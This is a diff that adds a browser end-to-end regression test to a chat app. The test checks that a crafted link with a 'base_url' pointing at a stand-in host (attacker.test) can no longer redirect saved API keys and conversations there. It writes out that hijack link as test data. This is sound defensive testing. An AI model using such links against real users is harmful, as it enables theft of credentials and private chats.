@@ -456,6 +456,61 @@ async function cspAndTrustedTypes(page) {
   check(attacker.hits.length === before, `no request reached the attacker (${attacker.hits.slice(before).join(', ')})`);
 }
 
+/**
+ * E1 (issue 13): with a remembered key, a link `#provider=…&base_url=https://attacker…` changed
+ * the saved base URL and the next message sent the key and the conversation there. Now a link
+ * only proposes: nothing is saved, the key stays bound to the origin it was given for.
+ */
+async function linkHijack(page) {
+  const good = `${double.url}/wire/openai-chat/text_gpt4o`;
+  await page.click('[data-testid=new-chat]');
+  await setProvider(page, { baseUrl: good, key: CANARY, remember: true });
+  const evil = 'https://attacker.test/v1';
+  await page.goto('about:blank');
+  await page.goto(`${serve.origin}/#provider=openai-chat&base_url=${encodeURIComponent(evil)}&model=gpt-4o`);
+  await ready(page);
+  const saved = await page.evaluate(() => JSON.parse(localStorage.getItem('palaver.settings')).providers['openai-chat'].base_url);
+  check(saved === good, `E1: a link does not change the saved base URL (${saved})`);
+  const before = requests.length;
+  await page.click('[data-testid=new-chat]');
+  await page.waitForFunction(() => globalThis.palaverApp.chat && !document.querySelector('[data-testid=message]'));
+  await sendAndWait(page, 'After the link', 1);
+  const sent = requests.slice(before).filter((r) => r.method() === 'POST');
+  check(sent.length > 0 && sent.every((r) => r.url().startsWith(double.url)), `E1: the next message still goes to the provider the user saved (${sent.map((r) => r.url()).join(', ')})`);
+  check(!requests.some((r) => r.url().includes('attacker.test/v1')), 'E1: nothing was sent to the linked host');
+  // The proposal shows in the form, named, with the key withheld.
+  await page.click('[data-testid=settings]');
+  const form = await page.evaluate(() => ({
+    base: document.getElementById('provider-base-url').value,
+    key: document.getElementById('provider-key').value,
+    notice: document.getElementById('proposal-notice').hidden ? '' : document.getElementById('proposal-notice').textContent,
+    note: document.getElementById('key-note').hidden ? '' : document.getElementById('key-note').textContent,
+  }));
+  check(form.base === evil && form.notice.includes('https://attacker.test') && form.key === '' && form.note.includes('not sent'),
+    `E1: the form shows the proposal and its host, and withholds the key (${JSON.stringify(form)})`);
+  // Saving it without typing a key: requests go there (the user chose it), the key does not.
+  await page.click('[data-testid=save-settings]');
+  await page.waitForSelector('[data-testid=settings-form]', { state: 'hidden' });
+  await ready(page);
+  await page.click('[data-testid=new-chat]');
+  const toEvil = page.waitForRequest((r) => r.url().startsWith(evil), { timeout: 10_000 });
+  await page.fill('[data-testid=composer]', 'to the new host');
+  await page.click('[data-testid=send]');
+  const request = await toEvil;
+  const headers = await request.allHeaders().catch(() => request.headers());
+  check(!JSON.stringify(headers).includes(CANARY), 'E1: a key given for one origin is never sent to another');
+  await page.waitForFunction(() => !globalThis.palaverApp.chat?.busy, null, { timeout: 15_000 }).catch(() => {});
+  // Back to the provider the key was given for: it is used again without retyping.
+  await page.click('[data-testid=settings]');
+  await page.fill('[data-testid=provider-base-url]', good);
+  await page.dispatchEvent('[data-testid=provider-base-url]', 'input');
+  check((await page.inputValue('[data-testid=provider-key]')) === CANARY, 'E1: the key shows again for its own origin');
+  await page.setChecked('[data-testid=remember-key]', false);
+  await page.click('[data-testid=save-settings]');
+  await page.waitForSelector('[data-testid=settings-form]', { state: 'hidden' });
+  await ready(page);
+}
+
 async function keys(page) {
   // C13/C14: the canary went to the provider double only, in its auth header.
   const leaks = [];
@@ -585,7 +640,7 @@ async function offline(page) {
 try {
   const page = await newPage();
   for (const [name, run] of [['newcomer', newcomer], ['fragment', fragmentPrefill], ['tools', toolTurns], ['stop/queue/regenerate/edit/branch', stopQueueRegenerate],
-    ['plan, ask-user, steer now', planAskAndSteer], ['error and retry', errorAndRetry], ['export/import/delete', exportImportDelete], ['b22 navigation', b22Navigation], ['draft', draftSurvivesReload], ['hostile output', hostileOutput], ['csp', cspAndTrustedTypes], ['keys', keys], ['two tabs', twoTabs], ['offline', offline]]) {
+    ['plan, ask-user, steer now', planAskAndSteer], ['error and retry', errorAndRetry], ['export/import/delete', exportImportDelete], ['b22 navigation', b22Navigation], ['draft', draftSurvivesReload], ['hostile output', hostileOutput], ['csp', cspAndTrustedTypes], ['keys', keys], ['e1 link hijack', linkHijack], ['two tabs', twoTabs], ['offline', offline]]) {
     // PALAVER_SECTIONS=a,b runs the newcomer's path and only those sections (while developing).
     if (process.env.PALAVER_SECTIONS && name !== 'newcomer' && !process.env.PALAVER_SECTIONS.split(',').includes(name)) continue;
     console.log(`-- ${name}`);
